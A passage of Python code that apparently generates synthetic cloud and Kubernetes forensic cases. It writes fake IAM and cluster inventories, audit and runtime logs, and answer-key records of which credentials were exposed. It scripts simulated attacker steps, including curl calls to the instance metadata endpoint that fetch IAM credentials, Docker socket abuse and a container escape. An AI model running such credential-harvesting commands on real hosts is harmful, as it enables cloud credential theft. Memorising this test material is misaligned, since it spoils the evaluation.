                      "subjects": [{"kind": "ServiceAccount", "name": "gitlab-runner", "namespace": "ci"}]})
        items.append({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
                      "metadata": self.meta("pod-exec", None, self.r.uuid(), self.S - 100 * DAY),
                      "rules": [{"apiGroups": [""], "resources": ["pods", "pods/log"], "verbs": ["get", "list"]},
                                {"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["create"]}]})
        items.append({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
                      "metadata": self.meta("oncall-exec", None, self.r.uuid(), self.S - 100 * DAY),
                      "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "pod-exec"},
                      "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": "oncall"}]})
        return items

    def write_inventory(self, root):
        inv = os.path.join(root, "inventory")
        os.makedirs(inv, exist_ok=True)
        items = [self.pod_obj(p) for p in self.pods]
        for (ns, sa), v in sorted(self.sas.items()):
            items.append({"apiVersion": "v1", "kind": "ServiceAccount",
                          "metadata": self.meta(sa, ns, v["uid"], self.S - 200 * DAY)})
        for (ns, nm), s in sorted(self.secrets.items()):
            m = self.meta(nm, ns, s["uid"], s["created"])
            items.append({"apiVersion": "v1", "kind": "Secret", "metadata": m, "type": "Opaque",
                          "data": {k: "" for k in s["keys"]}})
        items += self.rbac()
        items += [self.node_obj(n) for n in self.nodes]
        with open(os.path.join(inv, "kubectl-get-all.json"), "w") as f:
            json.dump({"apiVersion": "v1", "kind": "List", "metadata": {"resourceVersion": ""}, "items": items}, f, indent=1)
        with open(os.path.join(inv, "iam-authorization-details.json"), "w") as f:
            json.dump(self.iam_doc(), f, indent=1)
        for u in self.users.values():
            with open(os.path.join(inv, "iam-list-access-keys-%s.json" % u["name"]), "w") as f:
                json.dump({"AccessKeyMetadata": [{"UserName": u["name"], "AccessKeyId": k, "Status": "Active",
                                                  "CreateDate": aws_date(c)} for k, c in u["keys"]]}, f, indent=1)
        if self.vault_lookups:
            for p in self.pods:
                if not p["vault"]:
                    continue
                acc = self.vault_acc_at(p, self.T0)
                issued = [t for (t, a) in p["vlogins"] if a == acc][0]
                idn = self.vault_ident(p)
                doc = {"request_id": self.r.uuid(), "lease_id": "", "lease_duration": 0, "renewable": False,
                       "data": {"accessor": acc, "creation_time": int(issued), "creation_ttl": 3600,
                                "display_name": idn["display"], "entity_id": idn["entity"],
                                "expire_time": iso(self.T0 + 2400, 9), "explicit_max_ttl": 0, "id": "",
                                "issue_time": iso(issued, 9), "meta": idn["meta"], "num_uses": 0, "orphan": True,
                                "path": "auth/kubernetes/login", "policies": idn["policies"], "renewable": True,
                                "ttl": 2400, "type": "service"}, "warnings": None}
                with open(os.path.join(inv, "vault-token-lookup-%s.json" % acc[:8]), "w") as f:
                    json.dump(doc, f, indent=1)
        if getattr(self, "gcp_keys", None):
            with open(os.path.join(inv, "gcloud-iam-service-accounts-keys-list.json"), "w") as f:
                json.dump(self.gcp_keys, f, indent=1)
        if self.credmap is not None:
            lines = ["# cordon credential map", "# LOCATION PROVIDER CREDENTIAL_ID IDENTITY"]
            lines += ["%s %s %s %s" % e for e in self.credmap]
            with open(os.path.join(inv, "credentials.map"), "w") as f:
                f.write("\n".join(lines) + "\n")

    def trust_doc(self, ro):
        sts = []
        for st in ro["trust"]:
            k = st["kind"]
            if k == "service":
                sts.append({"Effect": "Allow", "Principal": {"Service": st["p"]}, "Action": "sts:AssumeRole"})
            elif k in ("arn", "session"):
                sts.append({"Effect": "Allow", "Principal": {"AWS": st["p"]}, "Action": "sts:AssumeRole"})
            else:
                sts.append({"Effect": "Allow", "Principal": {"AWS": st["p"]} if st["p"] != "*" else "*",
                            "Action": "sts:AssumeRole", "Condition": {"StringLike": {"aws:userid": st["pattern"]}}})
        return {"Version": "2012-10-17", "Statement": sts}

    def iam_doc(self):
        A = self.acct
        pol = lambda *s: {"Version": "2012-10-17", "Statement": list(s)}
        users = []
        for u in self.users.values():
            stmts = [{"Effect": "Allow", "Action": ["sts:GetCallerIdentity", "s3:ListBucket", "s3:GetObject",
                                                     "s3:PutObject"], "Resource": "*"}]
            if u["assume"]:
                stmts.append({"Effect": "Allow", "Action": "sts:AssumeRole",
                              "Resource": [self.roles[x]["arn"] for x in u["assume"]]})
            if u.get("create_keys_for"):
                stmts.append({"Effect": "Allow", "Action": ["iam:CreateAccessKey", "iam:ListAccessKeys"],
                              "Resource": self.users[u["create_keys_for"]]["arn"]})
            if u is self.ci_user:
                stmts.append({"Effect": "Allow", "Action": ["secretsmanager:ListSecrets", "secretsmanager:GetSecretValue"],
                              "Resource": "*"})
            users.append({"Path": u["path"], "UserName": u["name"], "UserId": u["id"], "Arn": u["arn"],
                          "CreateDate": aws_date(self.S - 500 * DAY), "GroupList": [],
                          "UserPolicyList": [{"PolicyName": u["name"] + "-inline", "PolicyDocument": pol(*stmts)}],
                          "AttachedManagedPolicies": [{"PolicyName": "AdministratorAccess",
                                                       "PolicyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}]
                          if u.get("admin") else [], "Tags": []})
        roles = []
        for ro in self.roles.values():
            stmts = [{"Effect": "Allow", "Action": ["ec2:DescribeInstances", "ecr:GetAuthorizationToken",
                                                     "ecr:BatchGetImage"], "Resource": "*"}]
            if ro["assume"]:
                stmts.append({"Effect": "Allow", "Action": "sts:AssumeRole",
                              "Resource": [self.roles[x]["arn"] for x in ro["assume"]]})
            d = {"Path": "/", "RoleName": ro["name"], "RoleId": ro["id"], "Arn": ro["arn"],
                 "CreateDate": aws_date(self.S - 400 * DAY), "AssumeRolePolicyDocument": self.trust_doc(ro),
                 "InstanceProfileList": [], "RolePolicyList": [{"PolicyName": ro["name"] + "-inline",
                                                                "PolicyDocument": pol(*stmts)}],
                 "AttachedManagedPolicies": [], "Tags": []}
            if ro["name"] == self.node_role:
                d["InstanceProfileList"] = [{"Path": "/", "InstanceProfileName": self.cluster + "-node",
                                             "InstanceProfileId": "AIPA" + self.r.b32(17),
                                             "Arn": "arn:aws:iam::%s:instance-profile/%s-node" % (A, self.cluster),
                                             "CreateDate": aws_date(self.S - 400 * DAY),
                                             "Roles": [{"Path": "/", "RoleName": ro["name"], "RoleId": ro["id"],
                                                        "Arn": ro["arn"], "CreateDate": aws_date(self.S - 400 * DAY),
                                                        "AssumeRolePolicyDocument": self.trust_doc(ro)}]}]
            roles.append(d)
        return {"UserDetailList": users, "GroupDetailList": [], "RoleDetailList": roles, "Policies": []}

    # ---- runtime evidence, written to every runtime source the case has ----------
    def proc(self, parent, binary, args, t, pod="inherit", docker="inherit", cwd=None, pid=None, uid=None, auid=None):
        node = parent.node
        pid = pid or self.pid(node)
        p = Proc(node, pid, binary, args, t, uid=parent.uid if uid is None else uid, cwd=cwd or parent.cwd,
                 pod=parent.pod if pod == "inherit" else pod,
                 docker=parent.docker if docker == "inherit" else docker, parent=parent,
                 ns_pid=(parent.ns_pid + self.r.randint(1, 60)) if (parent.pod or parent.docker) else pid,
                 mcs=parent.mcs, auid=parent.auid if auid is None else auid)
        return p

    def exec_(self, p, tty=False):
        """An exec seen by the runtime sources that log every exec."""
        if self.has("tetragon"):
            tg_exec(self.o, p)
        if self.has("tracee"):
            self.tracee( p.start + 0.0003, p, "sched_process_exec",
                   [{"name": "cmdpath", "str": p.binary}, {"name": "pathname", "str": p.binary},
                    {"name": "argv", "str_array": {"value": p.argv()}}], syscall="execve")
        if self.has("auditd"):
            audit(self.o, p.start + 0.0005, p.node, "execve", p, "exec",
                  paths=[(p.binary, self.r.randint(1000, 900000), "0100755")], tty="pts0" if tty else "(none)")
        return p

    def run(self, parent, binary, args, t, **kw):
        tty = kw.pop("tty", False)
        return self.exec_(self.proc(parent, binary, args, t, **kw), tty=tty)

    def shell_rce(self, app, t, args):
        sh = self.run(app, "/bin/sh", args, t)
        if self.has("falco"):
            falco(self.o, t + 0.06, "Run shell untrusted", "Notice",
                  ["T1059.004", "container", "maturity_stable", "mitre_execution", "process", "shell"], sh,
                  "Shell spawned by untrusted binary", {"evt.type": "execve", "evt.res": "SUCCESS"})
        return sh

    def file_read(self, p, t, path, real_path=None, watch_key=None, falco_rule=None, tracee_sig=None, write=False):
        """A file open.  real_path: the kernel-resolved path (Tetragon);
        watch_key: the auditd watch that covers it (host inode watches only)."""
        if self.has("tetragon"):
            tg_file(self.o, t + 0.0004, p, real_path or path, perm=2 if write else 4)
        if self.has("tracee"):
            self.tracee( t + 0.0005, p, "security_file_open",
                   [{"name": "pathname", "str": real_path or path}, {"name": "flags", "int32": 577 if write else 32768},
                    {"name": "syscall_pathname", "str": path}], syscall="openat")
            if tracee_sig:
                self.tracee( t + 0.0008, p, tracee_sig[0], [{"name": "pathname", "str": real_path or path}],
                       threat=tracee_sig[1])
        if self.has("auditd") and watch_key:
            audit(self.o, t + 0.0006, p.node, "openat", p, watch_key,
                  paths=[(path, self.r.randint(100000, 999999), "0100600")], exitv=3)
        if self.has("falco") and falco_rule:
            rule, prio, tags, text = falco_rule
            falco(self.o, t + 0.0007, rule, prio, tags, p, text,
                  {"evt.type": "openat", "evt.res": "SUCCESS", "fd.name": path})

    def connect(self, p, t, saddr, daddr, dport, falco_imds=False):
        sport = self.port()
        if self.has("tetragon"):
            tg_connect(self.o, t + 0.01, p, saddr, sport, daddr, dport)
        if self.has("tracee"):
            self.tracee( t + 0.011, p, "security_socket_connect",
                   [{"name": "sockfd", "int32": 3},
                    {"name": "remote_addr", "sockaddr": {"sa_family": "AF_INET", "sin_addr": daddr,
                                                         "sin_port": str(dport)}}], syscall="connect")
        if self.has("auditd"):
            audit(self.o, t + 0.012, p.node, "connect", p, "net_connect", sockaddr=sa_inet(daddr, dport))
        if self.has("falco") and falco_imds and (p.pod or p.docker):
            falco(self.o, t + 0.013, "Contact cloud metadata service from container", "Notice",
                  ["T1565", "container", "maturity_incubating", "mitre_discovery", "network"], p,
                  "Outbound connection to cloud instance metadata service",
                  {"evt.type": "connect", "evt.res": "SUCCESS",
                   "fd.name": "%s:%d->%s:%d" % (saddr, sport, daddr, dport), "fd.rport": dport})

    def unix_connect(self, p, t, path):
        if self.has("tracee"):
            self.tracee( t + 0.011, p, "security_socket_connect",
                   [{"name": "sockfd", "int32": 3},
                    {"name": "remote_addr", "sockaddr": {"sa_family": "AF_UNIX", "sun_path": path}}], syscall="connect")
            self.tracee( t + 0.012, p, "docker_abuse", [{"name": "pathname", "str": path}],
                   threat=trc("TRC-1019", "Docker socket abuse detected",
                              "An attempt to abuse the Docker UNIX socket inside a container was detected.", 2,
                              "T1068", "Exploitation for Privilege Escalation", "Privilege Escalation"))
        if self.has("auditd"):
            audit(self.o, t + 0.012, p.node, "connect", p, "net_connect", sockaddr=sa_unix(path))

    def imds_fetch(self, p, t, saddr, from_host=False):
        """curl to IMDS: v1 = GETs, v2 = PUT token then GETs (one connect each)."""
        calls = []
        if self.imds_v2:
            calls.append("-s -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 21600'")
        calls.append("-s http://169.254.169.254/latest/meta-data/iam/security-credentials/")
        calls.append("-s http://169.254.169.254/latest/meta-data/iam/security-credentials/" + self.node_role)
        for i, a in enumerate(calls):
            c = self.run(p, self.r.choice(["/usr/bin/curl", "/usr/bin/curl", "/usr/bin/wget"]) if i == 0 else "/usr/bin/curl",
                         a, t + i * self.r.uniform(0.3, 2.0))
            self.connect(c, c.start, saddr, "169.254.169.254", 80, falco_imds=not from_host)

    # ---- identities in the logs ---------------------------------------------------
    def sa_user(self, p, t):
        jti = self.jti_at(p, t)
        self.used_jtis.add(jti)
        ex = {"authentication.kubernetes.io/credential-id": [jti],
              "authentication.kubernetes.io/node-name": [p["node"]["name"]],
              "authentication.kubernetes.io/node-uid": [p["node"]["uid"]],
              "authentication.kubernetes.io/pod-name": [p["name"]],
              "authentication.kubernetes.io/pod-uid": [p["uid"]]}
        return ("system:serviceaccount:%s:%s" % (p["ns"], p["sa"]), ex,
                ["system:serviceaccounts", "system:serviceaccounts:" + p["ns"], "system:authenticated"],
                self.sas[(p["ns"], p["sa"])]["uid"])

    def sa_call(self, p, t, verb, uri, objref, src, ua, code=200, reqobj=None, annotations=None):
        user, ex, groups, suid = self.sa_user(p, t)
        k8s(self.o, t, self.eid(), user, verb, uri, objref, src, ua, code, extra=ex, groups=groups, uid_=suid,
            reqobj=reqobj, annotations=annotations,
            reason="RBAC: allowed by RoleBinding" if code < 400 else "")

    def node_ident(self, n, t):
        key, created = self.node_key(n, t)
        return {"type": "AssumedRole", "principalId": "%s:%s" % (self.node_role_id, n["inst"]),
                "arn": n["session_arn"], "accountId": self.acct, "accessKeyId": key,
                "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": self.node_role_id,
                                                     "arn": self.node_role_arn, "accountId": self.acct,
                                                     "userName": self.node_role},
                                   "attributes": {"creationDate": iso(created, 0), "mfaAuthenticated": "false"},
                                   "ec2RoleDelivery": "2.0" if self.imds_v2 else "1.0"}}

    def user_ident(self, u, key=None):
        return {"type": "IAMUser", "principalId": u["id"], "arn": u["arn"], "accountId": self.acct,
                "accessKeyId": key or u["keys"][0][0], "userName": u["name"]}

    def ctx(self, t, ident, source, name, src, ua, **kw):
        ct(self.o, t, self.eid(), self.acct, kw.pop("region", self.region), ident, source, name, src, ua, **kw)

    def token_request(self, p, t, jti):
        n = p["node"]
        key, _ = self.node_key(n, t)
        k8s(self.o, t, self.eid(), "system:node:" + n["name"], "create",
            "/api/v1/namespaces/%s/serviceaccounts/%s/token" % (p["ns"], p["sa"]),
            {"resource": "serviceaccounts", "namespace": p["ns"], "name": p["sa"], "apiVersion": "v1",
             "subresource": "token"}, n["ip"], "kubelet/v1.30.2 (linux/amd64) kubernetes/2a9b0e4", 201,
            extra={"accessKeyId": [key], "arn": [n["session_arn"]], "canonicalArn": [self.node_role_arn],
                   "principalId": ["%s:%s" % (self.node_role_id, n["inst"])], "sessionName": [n["inst"]]},
            groups=["system:nodes", "system:authenticated"],
            uid_="aws-iam-authenticator:%s:%s" % (self.acct, self.node_role_id),
            annotations={"authentication.kubernetes.io/issued-credential-id": jti},
            reqobj={"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1",
                    "metadata": {"name": p["sa"], "namespace": p["ns"]},
                    "spec": {"audiences": ["https://kubernetes.default.svc"], "expirationSeconds": 3607,
                             "boundObjectRef": {"kind": "Pod", "apiVersion": "v1", "name": p["name"], "uid": p["uid"]}}})

    def vault(self, p, t, path, op, src, acc, **kw):
        ident = self.vault_ident(p)
        issued = [ti for (ti, a) in p["vlogins"] if a == acc]
        vault_pair(self.o, t, self.r.uuid(), path, op, src, self.port(), acc, ident,
                   issue_time=issued[0] if issued else t, **kw)

    # ---- the cluster's normal life (every case) -----------------------------------
    def series(self, start, end, gap, dense_from=None, sparse=6):
        """Jittered times in [start, end): every ~gap near the attack (after
        dense_from), every ~gap*sparse before (sampled history)."""
        out = []
        t = max(start, self.S) + self.r.uniform(0, gap)
        dense_from = self.T0 - 26 * HOUR if dense_from is None else dense_from
        while t < end:
            out.append(t)
            g = gap if t >= dense_from else gap * sparse
            t += self.r.uniform(0.6 * g, 1.4 * g)
        return out

    def benign(self):
        r, o = self.r, self.o
        # AWS: EC2 delivers each node's role session; the node uses it from its NAT
        # address (VPC CNI, ECR pulls), sometimes through the VPC endpoint
        for n in self.nodes:
            for (ti, key) in n["sessions"]:
                if not (self.S <= ti < self.END):
                    continue
                self.ctx(ti, {"type": "AWSService", "invokedBy": "ec2.amazonaws.com"}, "sts", "AssumeRole",
                         "ec2.amazonaws.com", "ec2.amazonaws.com",
                         req={"roleArn": self.node_role_arn, "roleSessionName": n["inst"]},
                         resp={"credentials": {"accessKeyId": key, "expiration": ct_date(ti + 6 * HOUR + 900)},
                               "assumedRoleUser": {"assumedRoleId": "%s:%s" % (self.node_role_id, n["inst"]),
                                                   "arn": n["session_arn"]}})
            cni = "aws-sdk-go/1.55.5 (go1.22.5; linux; amd64) amazon-vpc-cni-k8s/v1.18.3"
            ecr = "aws-sdk-go-v2/1.30.3 os/linux lang/go#1.22.5 md/GOOS#linux ecr-credential-provider/v1.30.0"
            ts = self.series(self.S, self.END, 50 * 60)
            ts += [self.T0 - r.uniform(60, 600), self.T0 + r.uniform(60, 900)]
            for t in ts:
                vpce = r.random() < 0.2
                if r.random() < 0.7:
                    self.ctx(t, self.node_ident(n, t), "ec2", "DescribeNetworkInterfaces", n["ip"] if vpce else n["nat"],
                             cni, vpce=self.vpce if vpce else None)
                else:
                    self.ctx(t, self.node_ident(n, t), "ecr", "GetAuthorizationToken", n["ip"] if vpce else n["nat"],
                             ecr, vpce=self.vpce if vpce else None)
            # aws-node and ebs-csi-node talk to IMDS (kube-system, hostNetwork / privileged)
            for p in n["pods"]:
                if p.get("ds") in ("aws-node", "ebs-csi-node"):
                    for t in self.series(self.S, self.END, 3 * HOUR, sparse=3):
                        c = p["app"]
                        self.connect(c, t, n["ip"] if p["host_network"] else p["ip"], "169.254.169.254", 80, falco_imds=True)
                if p.get("ds") == "ebs-csi-node":
                    for t in self.series(self.S, self.END, 8 * HOUR, sparse=2):
                        dev = "/dev/nvme%dn1" % r.randint(1, 6)
                        tgt = "/var/lib/kubelet/plugins/kubernetes.io/csi/ebs.csi.aws.com/%s/globalmount" % r.hexs(64)
                        m = self.run(p["app"], "/usr/bin/mount", "-t ext4 -o defaults %s %s" % (dev, tgt), t)
                        if self.has("falco"):
                            falco(o, t + 0.002, "Mount Launched in Privileged Container", "Warning",
                                  ["T1611", "container", "cis", "maturity_incubating", "mitre_privilege_escalation"], m,
                                  "Mount was executed inside a privileged container", {"evt.type": "execve"})
                        if self.has("auditd"):
                            audit(o, t + 0.003, n["name"], "mount", m, "mount", paths=[(dev, 512, "060660"), (tgt, 77000, "040750")])
        # DaemonSet rollouts in the window: privileged pods created by the controller
        for p in self.pods:
            ds = p.get("ds")
            if ds and self.ds[ds]["rollout"] and self.S <= p["started"] < self.END:
                body = self.pod_obj(p, with_status=False)
                k8s(o, p["started"] - 0.5, self.eid(), "system:serviceaccount:kube-system:daemon-set-controller", "create",
                    "/api/v1/namespaces/%s/pods" % p["ns"],
                    {"resource": "pods", "namespace": p["ns"], "name": p["name"], "apiVersion": "v1"}, "10.%d.0.10" % self.vpc,
                    "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/2a9b0e4/system:serviceaccount:kube-system:daemon-set-controller",
                    201, groups=["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"],
                    reqobj=body, respobj={"kind": "Pod", "metadata": {"name": p["name"], "uid": p["uid"], "namespace": p["ns"]}})
                self.exec_(p["app"])
                if self.has("falco") and p["privileged"]:
                    falco(o, p["started"] + 0.5, "Launch Privileged Container", "Informational",
                          ["T1610", "container", "cis", "maturity_incubating", "mitre_execution"], p["app"],
                          "Privileged container started", {"evt.type": "container", "container.privileged": True})
        # apps use their own tokens from their pod IPs; each reads its token file now and then
        for p in self.pods:
            src = p["ip"]
            ua = p["ua"] or "%s/v0.0.0 (linux/amd64) kubernetes/client-go" % p["workload"]
            ts = self.series(max(self.S, p["started"] + 5), self.END, 40 * 60)
            if p.get("dep"):
                ts.append(self.T0 - r.uniform(30, 500))
            for t in ts:
                if p.get("dep"):
                    self.sa_call(p, t, "get", "/api/v1/namespaces/%s/configmaps/%s-config" % (p["ns"], p["workload"]),
                                 {"resource": "configmaps", "namespace": p["ns"], "name": p["workload"] + "-config",
                                  "apiVersion": "v1"}, src, ua)
                else:
                    self.sa_call(p, t, "list", "/api/v1/nodes?resourceVersion=0",
                                 {"resource": "nodes", "apiVersion": "v1"}, src, ua)
            if p.get("dep") or p.get("ds"):
                for t in self.series(max(self.S, p["started"] + 1), self.END, 20 * HOUR, sparse=1) + \
                        ([p["started"] + 1.0] if p["started"] >= self.S else []):
                    self.file_read(p["app"], t, "/var/run/secrets/kubernetes.io/serviceaccount/token",
                                   real_path="/run/secrets/kubernetes.io/serviceaccount/..%s.%d/token" % (
                                       iso(t - 300, 0)[:19].replace("-", "_").replace(":", "_").replace("T", "_"),
                                       r.randint(10 ** 9, 2 * 10 ** 9)))
            # Vault agent: logins, KV reads, renew-self, from the pod IP
            if p["vault"]:
                for (ti, acc) in p["vlogins"]:
                    if not (self.S <= ti < self.END):
                        continue
                    self.vault(p, ti, "auth/kubernetes/login", "update", src, None, login=True, new_acc=acc,
                               mount_type="kubernetes")
                    self.vault(p, ti + 1.5, p["vault"]["kv"] + "/config", "read", src, acc, data_keys=["password"])
                for t in self.series(max(self.S, p["vlogins"][0][0] + 60), self.END, 40 * 60, sparse=4):
                    acc = self.vault_acc_at(p, t)
                    self.vault(p, t, "auth/token/renew-self", "update", src, acc, mount_type="token", renew=True)
        # CI: daily ListSecrets / GetSecretValue / AssumeRole of the deploy role, from the CI egress
        ci = self.ci_user
        cua = "aws-cli/2.15.30 Python/3.11.8 Linux/5.15.0-1057-aws exe/x86_64.ubuntu.22 prompt/off"
        t = self.T0 - r.uniform(0.2 * min(self.H, DAY), min(self.H, DAY) * 0.95)
        while t > self.S:
            self.ctx(t, self.user_ident(ci), "secretsmanager", "ListSecrets", self.ci_ip, cua + " command/secretsmanager.list-secrets")
            self.ctx(t + 4, self.user_ident(ci), "secretsmanager", "GetSecretValue", self.ci_ip, cua,
                     req={"secretId": "ci/deploy-config"})
            rk = "ASIA" + r.b32(16)
            sname = r.choice(["gitlab-ci-%d" % r.randint(10000, 99999), "deploy-session"])
            sarn = "arn:aws:sts::%s:assumed-role/%s/%s" % (self.acct, self.dep_role["name"], sname)
            self.ctx(t + 9, self.user_ident(ci), "sts", "AssumeRole", self.ci_ip, cua,
                     req={"roleArn": self.dep_role["arn"], "roleSessionName": sname},
                     resp={"credentials": {"accessKeyId": rk, "expiration": ct_date(t + 3609)},
                           "assumedRoleUser": {"assumedRoleId": "%s:%s" % (self.dep_role["id"], sname), "arn": sarn}})
            self.ctx(t + 20, {"type": "AssumedRole", "principalId": "%s:%s" % (self.dep_role["id"], sname), "arn": sarn,
                              "accountId": self.acct, "accessKeyId": rk,
                              "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": self.dep_role["id"],
                                                                   "arn": self.dep_role["arn"], "accountId": self.acct,
                                                                   "userName": self.dep_role["name"]},
                                                 "attributes": {"creationDate": iso(t + 9, 0)}}},
                     "ecr", "GetAuthorizationToken", self.ci_ip, cua)
            t -= r.uniform(23 * HOUR, 25 * HOUR)
        # the uploader key is used by its app from the NAT address; the host key by a node cron
        up = self.up_user
        for t in self.series(self.S, self.END, 2 * HOUR, sparse=2):
            self.ctx(t, self.user_ident(up), "s3", "ListBuckets", r.choice(self.nat_ips),
                     "Boto3/1.34.10 md/Botocore#1.34.10 ua/2.0 os/linux#6.1.92 lang/python#3.11.9")
        for n in self.nodes:
            t = self.T0 - r.uniform(0.1, 1.0) * min(self.H, DAY)
            while t > self.S:
                cron = Proc(n["name"], self.pid(n["name"]), "/usr/bin/python3.9",
                            "/usr/bin/aws ecr list-images --repository-name web", t, cwd="/root", auid=0, uid=0)
                if self.has("auditd"):
                    audit(o, t + 0.01, n["name"], "openat", cron, "aws_creds",
                          paths=[("/root/.aws/credentials", 262311, "0100600")], exitv=3)
                self.ctx(t + 1, self.user_ident(self.host_user), "ecr", "ListImages", n["nat"],
                         "aws-cli/1.18.147 Python/3.9.16 Linux/6.1.92-99.174.amzn2023.x86_64 botocore/1.18.6",
                         req={"repositoryName": "web"})
                t -= r.uniform(23 * HOUR, 25 * HOUR)
        # on-call: kubectl exec into a pod and look around
        for _ in range(r.randint(1, 2)):
            p = r.choice([x for x in self.pods if x.get("dep")])
            t = r.uniform(self.S, self.T0 - 10 * 60)
            arn = "arn:aws:sts::%s:assumed-role/AWSReservedSSO_OnCall_%s/%s" % (self.acct, r.hexs(8), self.oncall)
            k8s(o, t, self.eid(), arn, "create",
                "/api/v1/namespaces/%s/pods/%s/exec?command=sh&container=%s&stdin=true&stdout=true&tty=true" % (p["ns"], p["name"], p["cname"]),
                {"resource": "pods", "namespace": p["ns"], "name": p["name"], "apiVersion": "v1", "subresource": "exec"},
                self.oncall_ip, "kubectl/v1.30.1 (darwin/arm64) kubernetes/6911225", 101,
                extra={"arn": [arn], "sessionName": [self.oncall], "accessKeyId": ["ASIA" + r.b32(16)]},
                groups=["oncall", "system:authenticated"])
            runc = Proc(p["node"]["name"], self.pid(p["node"]["name"]), "/usr/bin/runc", "--root /run/containerd/runc/k8s.io exec", t + 0.1)
            sh = self.exec_(Proc(p["node"]["name"], self.pid(p["node"]["name"]), "/bin/sh", "", t + 0.3, cwd="/app",
                                 pod=p, parent=runc, ns_pid=r.randint(100, 300), mcs=p["mcs"]), tty=True)
            if self.has("falco"):
                falco(o, t + 0.31, "Terminal shell in container", "Notice",
                      ["T1059", "container", "maturity_stable", "mitre_execution", "shell"], sh,
                      "A shell was spawned in a container with an attached terminal", {"evt.type": "execve", "proc.tty": 34816})
            for cmd in r.sample(["/bin/ps aux", "/bin/ls -la /app", "/usr/bin/env", "/bin/cat /app/config.yaml", "/usr/bin/top -b -n1"], 2):
                b, _, a = cmd.partition(" ")
                t += r.uniform(3, 40)
                self.run(sh, b, a, t, tty=True)
        # CI image builds over the node's docker.sock (a benign runtime-socket user)
        for _ in range(r.randint(1, 2)):
            self.ci_job(r.uniform(self.S, self.T0 - 15 * 60), build=True)

    def ci_job(self, t, build):
        r, o = self.r, self.o
        node = r.choice(self.nodes)
        name = "runner-%s-project-%d-concurrent-0" % (r.k8s(8), r.randint(10, 400))
        p = self.new_pod(node, "ci", name, "gitlab-build", "docker:24.0-cli", "build",
                         {"pod": name}, name, "Pod", t + 2, "/bin/bash", "", hostpaths=["/var/run/docker.sock"])
        self.ci_jobs.append(p)
        self.sa_call(self.runner, t, "create", "/api/v1/namespaces/ci/pods",
                     {"resource": "pods", "namespace": "ci", "name": name, "apiVersion": "v1"},
                     self.runner["ip"], self.runner["ua"], 201, reqobj=self.pod_obj(p, with_status=False))
        job = self.exec_(p["app"])
        if self.has("falco"):
            falco(o, t + 2.5, "Launch Sensitive Mount Container", "Informational",
                  ["T1610", "container", "cis", "maturity_sandbox", "mitre_execution"], job,
                  "Container with sensitive mount started",
                  {"evt.type": "container", "container.mounts": "/var/run/docker.sock:/var/run/docker.sock::true:rprivate"})
        if build:
            d = self.run(job, "/usr/local/bin/docker", "build -t registry.acme.internal/web:%s ." % r.hexs(7), t + 20)
            self.unix_connect(d, t + 20.1, "/var/run/docker.sock")
            # BuildKit runs the RUN step in a container with no pod (not privileged, no host mount)
            bid = r.hexs(64)
            shim = Proc(node["name"], self.pid(node["name"]), "/usr/bin/containerd-shim-runc-v2",
                        "-namespace moby -id %s -address /run/containerd/containerd.sock" % bid, t + 24)
            self.exec_(Proc(node["name"], self.pid(node["name"]), "/bin/sh", "-c npm ci --omit=dev", t + 24.3,
                            docker=bid, parent=shim, ns_pid=1))
        return p, job

    # ---- truth bookkeeping ----------------------------------------------------------
    def cred(self, provider, cid, identity, must=True, principal=None):
        """principal: what reach starts from: ('user', name) | ('session', role, sess) |
        ('k8s', identity) | ('vault', display)."""
        key = (provider, cid)
        if must:
            self.must[key] = (identity, principal)
            self.may.pop(key, None)
        elif key not in self.must:
            self.may[key] = (identity, principal)

    def aws_key_cred(self, key, must=True):
        for u in self.users.values():
            if any(k == key for k, _ in u["keys"]):
                self.cred("aws", key, u["arn"], must, ("user", u["name"]))
                return
        raise KeyError(key)

    def node_cred(self, n, t, must=True):
        key, _ = self.node_key(n, t)
        self.cred("aws", key, n["session_arn"], must, ("session", self.node_role, n["inst"]))
        return key

    def jti_cred(self, p, jti, must=True):
        self.cred("k8s", jti, "system:serviceaccount:%s:%s" % (p["ns"], p["sa"]), must,
                  ("k8s", "system:serviceaccount:%s:%s" % (p["ns"], p["sa"])))

    def vault_cred(self, p, acc, must=True):
        d = self.vault_ident(p)["display"]
        self.cred("vault", acc, d, must, ("vault", d))

    def secret_exposed(self, s, must_if_known=True, used=False):
        """A k8s secret's content was exposed: the credential it holds is
        reported when something says which it is (credential map) or when
        the logs show its use."""
        if s["holds"] is None:
            return
        known = used or (self.credmap is not None and (s["ns"], s["name"]) in self.mapped_secrets)
        self.aws_key_cred(s["holds"][1], must=must_if_known and known)

    def escape_node(self, n, t, root):
        """§4.8: an escape to the host of node n exposes the node role, the
        kubelet's credentials, every pod's token and secrets, the host files."""
        self.escaped_nodes.add(n["name"])
        for e in self.truth["escaped"]:
            if e["pod"] == "%s/%s" % (root["ns"], root["name"]):
                e["host"] = n["name"]
        # the role is exposed (its reach is required); the session key itself is
        # required when IMDS was fetched or the session used (host_harvest)
        self.node_cred(n, t, must=False)
        self.reach_extra |= self.reach_of(("session", self.node_role, n["inst"]))
        self.reach_extra.add(("k8s", "system:node:" + n["name"]))
        for p in n["pods"]:
            if not [1 for (ti, _) in p["tokens"] if ti <= t]:
                continue
            self.jti_cred(p, self.jti_at(p, t), must=False)
            for s in (p.get("dep") or {}).get("secrets", []):
                self.secret_exposed(s, must_if_known=False)
            if p["vault"]:
                self.vault_cred(p, self.vault_acc_at(p, t), must=False)
        if self.credmap is not None:
            self.aws_key_cred(self.host_file_key, must=True)
            self.cred("github", self.gh_pat, "acme-ci-bot", True, ("github", "acme-ci-bot"))
        else:
            self.aws_key_cred(self.host_file_key, must=False)

    def reach_of(self, principal):
        kind = principal[0]
        if kind in ("user", "session"):
            return {("aws", a) for a in self.reach_aws(principal)}
        if kind == "k8s":
            return {("k8s", principal[1])}
        if kind in ("vault", "github", "gcp", "anthropic"):
            return {(kind, principal[1])}
        return set()

    def rbac_reach(self, sa_ident):
